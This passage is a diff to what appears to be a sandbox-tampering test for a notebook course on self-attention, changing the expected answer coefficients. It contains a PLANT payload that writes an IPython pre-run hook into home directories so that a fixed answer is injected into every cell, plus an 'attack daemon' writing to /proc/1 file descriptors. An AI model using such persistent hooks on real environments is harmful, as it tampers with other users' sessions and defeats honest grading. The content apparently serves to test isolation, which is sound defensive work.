@@ -38,7 +38,7 @@ LESSON00 = ROOT / "notebooks" / "00_roadmap.ipynb"
 LESSON02 = ROOT / "notebooks" / "02_basic_self_attention.ipynb"
 LIMITS = {"MEMORY_LIMIT": "512M", "MAX_PROCESSES": 64, "DISK_LIMIT": "64M", "CELL_TIMEOUT": 30,
           "SUBMISSION_TIMEOUT": 180, "JOBS": 2}
-RIGHT = "apple_in_context = 0.1 * love + 0.5 * apple + 0.4 * phones"
+RIGHT = "apple_in_context = 0.1 * love + 0.3 * apple + 0.6 * phones"
 DAEMON = f"sa-attack-daemon-{os.getpid()}"
 
 
@@ -137,7 +137,7 @@ for path in ("/proc/1/fd/1", "/proc/1/fd/2", "/proc/1/fd/3", "/dev/stdout"):  # 
 PLANT = """
 apple_in_context = None
 import os
-code = "apple_in_context = 0.1 * love + 0.5 * apple + 0.4 * phones"
+code = "apple_in_context = 0.1 * love + 0.3 * apple + 0.6 * phones"
 hook = f"get_ipython().events.register('pre_run_cell', lambda info: exec({code!r}, get_ipython().user_ns))\\n"
 for home in (os.path.expanduser("~"), "/root", "/home"):
     try:
